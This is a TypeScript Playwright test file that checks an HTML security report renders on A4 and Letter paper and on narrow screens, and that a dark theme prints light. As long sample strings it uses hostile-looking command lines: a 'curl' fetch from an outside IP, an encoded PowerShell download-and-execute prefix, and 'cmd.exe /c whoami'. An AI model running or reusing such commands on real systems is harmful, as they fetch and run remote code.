/** The report on paper and on narrow screens: nothing is cut, nothing stays folded, and a dark system prints light. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Browser, chromium, type Page } from 'playwright'
import { htmlReport } from '../../ui/report/html.ts'
import type { ReportModel } from '../../ui/report/model.ts'
import { findChromium } from '../helpers/browser.ts'
import { reportOf } from '../helpers/sample-report.ts'

/** CSS pixels between the margins of 16 mm. */
const PAPER = { A4: 673, Letter: 695 } as const
const ENCODED = `powershell.exe -EncodedCommand ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'.repeat(30)}`
const SHELL = `sh -c 'curl -fsSL http://203.0.113.77/a' ${'&& echo further words of the command '.repeat(8)}`
const COLUMNS = Array.from({ length: 16 }, (_, at) => ({ name: `winlog.event_data.Column${at}`, type: 'keyword' as const }))

let browser: Browser
let folder: string
let page: Page

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'rarebit-print-'))
  const path = join(folder, 'report.html')
  await writeFile(
    path,
    htmlReport(withWideAnswer(reportOf([SHELL, ENCODED, 'cmd.exe /c whoami', `C:\\${'folder\\'.repeat(40)}`])))
  )
  browser = await chromium.launch({ executablePath: findChromium()! })
  page = await browser.newPage({ colorScheme: 'dark' })
  await page.goto(pathToFileURL(path).href)
})
afterAll(async () => {
  await browser?.close()
  await rm(folder, { recursive: true, force: true })
})

/** The answers of a step with sixteen columns. */
function withWideAnswer(model: ReportModel): ReportModel {
  const rows = Array.from({ length: 20 }, (_, row) => COLUMNS.map((_, at) => (at % 5 === 0 ? SHELL : `value ${row}.${at}`)))
  const answer = { columns: COLUMNS, rows, total: rows.length }
  const findings = model.findings.map((finding) => ({ ...finding, steps: finding.steps.map((step) => ({ ...step, answer })) }))
  return { ...model, findings }
}

/** Boxes that stick out at the right of the page. A space at the end of a line hangs, so runs of text do not count. */
const outside = () =>
  page.evaluate(() =>
    Array.from(document.querySelectorAll('body *:not(bdi)'), (node) => ({ node, right: node.getBoundingClientRect().right }))
      .filter(({ right }) => right > document.documentElement.clientWidth + 0.5)
      .map(({ node, right }) => `${node.tagName}.${node.getAttribute('class')} to ${right}`)
  )

for (const [paper, width] of Object.entries(PAPER))
  test(`${paper}: nothing is wider than the page, the overview is whole, a table of many columns keeps names above values`, async () => {
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' })
    await page.setViewportSize({ width, height: 900 })
    expect(await outside()).toEqual([])
    const seen = await page.evaluate(() => {
      const all = (selector: string) => Array.from(document.querySelectorAll(selector))
      const lefts = (row: Element) => Array.from(row.children, (one) => one.getBoundingClientRect().left)
      const tables = all('.steps table')
      return {
        cut: all('.what, .scroll, pre').filter((node) => node.scrollHeight > node.clientHeight + 1).length,
        overviews: all('.what').length,
        folded: all('details:not([open]) > :not(summary)').filter((node) => node.getBoundingClientRect().height === 0).length,
        twice: all('.long .head').filter((node) => node.getBoundingClientRect().height > 0).length,
        lefts: tables.map((table) => Array.from(table.querySelectorAll('tr'), lefts))
      }
    })
    expect(seen).toMatchObject({ cut: 0, overviews: 4, folded: 0, twice: 0 })
    expect(seen.lefts).toHaveLength(4)
    for (const [names, ...rows] of seen.lefts) for (const row of rows) expect(row).toEqual(names)
  })

test('dark on the screen, light on paper', async () => {
  const colours = () =>
    page.evaluate(() => {
      const { colorScheme, backgroundColor, color } = getComputedStyle(document.documentElement)
      return { colorScheme, backgroundColor, color, bodyColor: getComputedStyle(document.querySelector('h1')!).color }
    })
  await page.emulateMedia({ media: 'screen', colorScheme: 'dark' })
  expect(await colours()).toMatchObject({ colorScheme: 'light dark', color: 'rgb(232, 235, 239)' })
  await page.emulateMedia({ media: 'print', colorScheme: 'dark' })
  expect(await colours()).toEqual({
    colorScheme: 'light',
    backgroundColor: 'rgb(255, 255, 255)',
    color: 'rgb(32, 37, 45)',
    bodyColor: 'rgb(32, 37, 45)'
  })
})

test('on the screen a long word without a space wraps, and only tables scroll', async () => {
  await page.emulateMedia({ media: 'screen', colorScheme: 'light' })
  for (const width of [320, 360, 1280]) {
    await page.setViewportSize({ width, height: 900 })
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width)
    const narrow = await page.evaluate(
      () => Array.from(document.querySelectorAll('.scroll :is(th, td)')).filter((node) => node.clientWidth < 90).length
    )
    expect(narrow).toBe(0)
  }
})
